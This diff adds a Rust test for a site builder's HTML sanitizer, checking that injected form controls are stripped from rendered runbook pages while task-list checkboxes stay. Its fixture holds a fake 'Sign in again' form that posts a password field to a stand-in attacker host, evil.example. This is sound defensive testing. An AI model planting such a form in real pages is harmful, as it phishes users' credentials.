@@ -143,3 +143,39 @@ fn bidi_overrides_are_errors_and_isolates_in_prose_warnings() {
         "the log carries the override: {err}"
     );
 }
+
+/// `<input type="password">` lost its `type` and was kept: an empty text box on the
+/// page, under the author's "Sign in again". A task list's checkbox stays, disabled.
+#[test]
+fn form_controls_are_removed_whole_and_task_checkboxes_stay() {
+    let site = example_site();
+    let root = site.path();
+    let first = append(
+        root,
+        concat!(
+            "\n- [x] Drained the queue\n",
+            "\n<form action=\"https://evil.example/\">Sign in again: ",
+            "<input type=\"password\" name=\"p\"><button>OK</button></form>\n",
+        ),
+    );
+    let out = build(root);
+    let err = stderr(&out);
+    assert!(out.status.success(), "{err}");
+    assert!(
+        at_line(&err, first + 3)
+            .iter()
+            .any(|(h, _)| h.starts_with("warning:") && h.contains("`<input>` (a form control")),
+        "{err}"
+    );
+    let page = read(&root.join("public/runbooks/profit/aggregate-profit/index.html"));
+    let start = page.find("<article class=\"runbook\">").unwrap();
+    let article = &page[start..start + page[start..].find("</article>").unwrap()];
+    assert_eq!(article.matches("<input").count(), 1, "{article}");
+    assert!(
+        article.contains("<input disabled=\"\" type=\"checkbox\" checked=\"\">"),
+        "{article}"
+    );
+    for gone in ["<form", "<button", "password"] {
+        assert!(!article.contains(gone), "{gone} in {article}");
+    }
+}
